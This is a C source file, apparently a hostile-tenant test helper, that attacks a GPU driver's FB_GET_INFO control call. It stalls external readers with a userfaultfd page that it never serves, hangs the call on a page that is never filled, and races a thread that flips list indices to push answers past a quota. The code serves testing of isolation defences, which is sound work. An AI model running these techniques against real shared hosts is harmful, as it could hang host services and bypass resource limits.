// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile tenant's FB_GET_INFO (v1) list, the one behind a pointer in the
 * control params (tests/vm/hostile/test_item06_caller_memory.py).
 *
 *   attack_fblist uffd FD CLIENT SUBDEVICE SECONDS
 *
 * The list lies on a page registered with userfaultfd (missing faults,
 * with the faulting thread's id). A handler thread serves the faults of
 * this process's own threads and never answers anyone else's: a process
 * that reads the list from outside (process_vm_readv) waits for ever. A
 * sibling thread drops the page (MADV_DONTNEED) again and again, so that
 * each read of the list faults anew. The main thread loops FB_GET_INFO (a
 * millisecond apart: the page is the attack, not the rate) for SECONDS, then prints "calls N foreign F" (F: faults of other processes
 * left unanswered) and exits.
 *
 *   attack_fblist uffd-stuck FD CLIENT SUBDEVICE SECONDS
 *
 * The same page, never served and never touched by the tenant itself: the
 * one FB_GET_INFO call waits on its own list until the process is killed.
 *
 *   attack_fblist flip FD CLIENT SUBDEVICE MIN_S ATTEMPTS LIMIT_KIB
 *
 * A sibling thread flips each list entry's index between a size the
 * driver reports (RAM_SIZE, HEAP_SIZE, ...) and one it answers 0 for, while
 * the main thread loops FB_GET_INFO for at least MIN_S seconds and
 * ATTEMPTS calls (at most 10 * MIN_S). Every answered entry whose data is
 * over LIMIT_KIB is counted as seen over the quota. Prints "attempts N ok N
 * over N flips N max N".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define FB_GET_INFO		0x20801301U
#define N_ENTRIES		5

struct fb_params {
	uint32_t list_size, pad;
	uint64_t list;
};

struct fb_entry {
	uint32_t index, data;
};

static const uint32_t sizes[N_ENTRIES] = { 0x07, 0x08, 0x09, 0x16, 0x20 };
#define ZERO_INDEX 0x01	/* one nvsim answers 0 for, the daemon leaves */

static atomic_int stop;
static int uffd;
static char *page;
static long page_size;
static unsigned long foreign;
static int stuck;

static int own_thread(pid_t tid)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/self/task/%d", tid);
	return stat(path, &st) == 0;
}

static void *handler(void *arg)
{
	struct uffdio_zeropage zp;
	struct uffd_msg msg;
	struct pollfd pfd;

	(void)arg;
	while (!atomic_load(&stop)) {
		pfd.fd = uffd;
		pfd.events = POLLIN;
		if (poll(&pfd, 1, 100) <= 0)
			continue;
		if (read(uffd, &msg, sizeof(msg)) != sizeof(msg))
			continue;
		if (msg.event != UFFD_EVENT_PAGEFAULT)
			continue;
		if (stuck || !own_thread(msg.arg.pagefault.feat.ptid)) {
			foreign++;	/* never answered */
			continue;
		}
		zp.range.start = msg.arg.pagefault.address & ~(page_size - 1);
		zp.range.len = page_size;
		zp.mode = 0;
		/* Mapped meanwhile (EEXIST): wake the waiter all the same. */
		if (ioctl(uffd, UFFDIO_ZEROPAGE, &zp))
			ioctl(uffd, UFFDIO_WAKE, &zp.range);
	}
	return NULL;
}

static void *dropper(void *arg)
{
	(void)arg;
	/* Often enough to be missing when someone else reads it; not a spin. */
	while (!atomic_load(&stop)) {
		madvise(page, page_size, MADV_DONTNEED);
		usleep(200);
	}
	return NULL;
}

static void *flipper(void *arg)
{
	volatile struct fb_entry *list = arg;
	unsigned long *flips = (unsigned long *)(list + N_ENTRIES);
	int i;

	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		for (i = 0; i < N_ENTRIES; i++)
			list[i].index = ZERO_INDEX;
		for (i = 0; i < N_ENTRIES; i++)
			list[i].index = sizes[i];
		(*flips)++;
	}
	return NULL;
}

static int fb_get_info(int fd, uint32_t client, uint32_t subdev,
		       struct fb_params *fb, uint32_t *status)
{
	struct nvos54 p = {
		.h_client = client, .h_object = subdev, .cmd = FB_GET_INFO,
		.params = (uintptr_t)fb, .params_size = sizeof(*fb),
	};
	unsigned long cmd = _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_CONTROL, struct nvos54);
	int ret = ioctl(fd, cmd, &p);

	*status = p.status;
	return ret < 0 ? errno : 0;
}

static int run_uffd(int fd, uint32_t client, uint32_t subdev, double secs)
{
	struct uffdio_api api = { .api = UFFD_API,
				  .features = UFFD_FEATURE_THREAD_ID };
	struct uffdio_register reg;
	struct fb_params fb;
	struct fb_entry *list;
	pthread_t th, td;
	unsigned long calls = 0;
	uint32_t status;
	double end;
	int i;

	page_size = sysconf(_SC_PAGESIZE);
	uffd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api)) {
		perror("userfaultfd");
		return 1;
	}
	page = mmap(NULL, page_size, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	reg.range.start = (uintptr_t)page;
	reg.range.len = page_size;
	reg.mode = UFFDIO_REGISTER_MODE_MISSING;
	if (page == MAP_FAILED || ioctl(uffd, UFFDIO_REGISTER, &reg)) {
		perror("register");
		return 1;
	}
	pthread_create(&th, NULL, handler, NULL);
	list = (struct fb_entry *)page;
	if (stuck) {
		printf("started\n");
		fb = (struct fb_params){ N_ENTRIES, 0, (uintptr_t)list };
		fb_get_info(fd, client, subdev, &fb, &status);
		printf("returned\n");
		return 0;
	}
	pthread_create(&td, NULL, dropper, NULL);
	end = now() + secs;
	while (now() < end) {
		for (i = 0; i < N_ENTRIES; i++)
			list[i] = (struct fb_entry){ sizes[i], 0 };
		fb = (struct fb_params){ N_ENTRIES, 0, (uintptr_t)list };
		fb_get_info(fd, client, subdev, &fb, &status);
		calls++;
		/* The page is the attack, not a flood of calls (item 13's). */
		usleep(1000);
		if (calls == 1) {
			printf("started\n");
			fflush(stdout);
		}
	}
	atomic_store(&stop, 1);
	pthread_join(td, NULL);
	pthread_join(th, NULL);
	printf("calls %lu foreign %lu\n", calls, foreign);
	return 0;
}

static int run_flip(int fd, uint32_t client, uint32_t subdev, double min_s,
		    unsigned long attempts, uint32_t limit)
{
	static struct {
		struct fb_entry list[N_ENTRIES];
		unsigned long flips;
	} shared;
	unsigned long n = 0, ok = 0, over = 0;
	uint32_t status, max = 0;
	struct fb_params fb;
	double start, t;
	pthread_t tf;
	int i;

	for (i = 0; i < N_ENTRIES; i++)
		shared.list[i] = (struct fb_entry){ sizes[i], 0 };
	pthread_create(&tf, NULL, flipper, &shared);
	start = now();
	for (;;) {
		t = now() - start;
		if ((t >= min_s && n >= attempts) || t >= 10 * min_s)
			break;
		for (i = 0; i < N_ENTRIES; i++)
			shared.list[i].data = 0;
		fb = (struct fb_params){ N_ENTRIES, 0, (uintptr_t)shared.list };
		n++;
		if (fb_get_info(fd, client, subdev, &fb, &status) || status)
			continue;
		ok++;
		for (i = 0; i < N_ENTRIES; i++) {
			uint32_t d = ((volatile struct fb_entry *)shared.list)[i].data;

			if (d > max)
				max = d;
			if (d > limit)
				over++;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(tf, NULL);
	printf("attempts %lu ok %lu over %lu flips %lu max %u\n", n, ok, over,
	       shared.flips, max);
	return 0;
}

int main(int argc, char **argv)
{
	int fd;

	if (argc < 6)
		return 2;
	fd = atoi(argv[2]);
	setvbuf(stdout, NULL, _IOLBF, 0);
	stuck = !strcmp(argv[1], "uffd-stuck");
	if (!strcmp(argv[1], "uffd") || stuck)
		return run_uffd(fd, strtoul(argv[3], NULL, 0),
				strtoul(argv[4], NULL, 0), atof(argv[5]));
	if (!strcmp(argv[1], "flip") && argc == 8)
		return run_flip(fd, strtoul(argv[3], NULL, 0),
				strtoul(argv[4], NULL, 0), atof(argv[5]),
				strtoul(argv[6], NULL, 0),
				strtoul(argv[7], NULL, 0));
	return 2;
}
